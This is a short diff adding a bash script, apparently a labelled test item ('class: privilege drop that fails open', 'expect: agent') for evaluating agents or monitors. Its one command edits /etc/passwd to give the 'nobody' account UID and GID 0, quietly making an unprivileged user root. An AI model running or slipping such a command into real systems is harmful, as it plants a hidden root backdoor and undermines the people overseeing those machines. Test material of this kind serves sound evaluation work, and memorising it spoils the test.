@@ -1,0 +1,5 @@
+#!/bin/bash
+# class: privilege drop that fails open (the unprivileged user made root)
+# mode: shared
+# expect: agent
+sed -i 's/^nobody:x:65534:65534:/nobody:x:0:0:/' /etc/passwd
